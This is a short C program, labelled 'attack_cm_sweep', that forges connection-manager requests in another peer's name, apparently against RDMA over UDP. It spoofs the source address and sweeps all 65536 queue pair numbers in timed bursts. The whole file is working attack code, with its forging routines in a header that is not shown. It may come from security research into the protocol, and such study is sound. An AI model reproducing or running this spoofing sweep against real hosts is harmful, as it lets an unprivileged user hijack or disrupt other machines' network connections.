/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Requests for connections in the name of a peer, one for each queue pair number that it may have.
 * The sender is any user of the peer's host, with an ordinary UDP socket, who receives no answer.
 *
 *   attack_cm_sweep FROM-ADDRESS TO-ADDRESS PORT CA-GUID
 */
#include "cm_forge.h"

enum { NUMBERS = 65536, ROUNDS = 2, BURST = 50, PAUSE_NS = 2500000 };

int main(int argc, char **argv)
{
	struct forger forger;

	if (argc != 5 || !forger_open(&forger, argv[1], argv[2]))
		return 2;
	forger.guid = strtoull(argv[4], NULL, 16);
	uint16_t port = (uint16_t)strtoul(argv[3], NULL, 10);
	for (uint32_t i = 0; i < ROUNDS * NUMBERS; i++) {
		struct cm_message req = forge_req(&forger, i % NUMBERS, port);

		forger_send(&forger, &req);
		if (i % BURST == 0)
			nanosleep(&(struct timespec){0, PAUSE_NS}, NULL);
	}
	return 0;
}
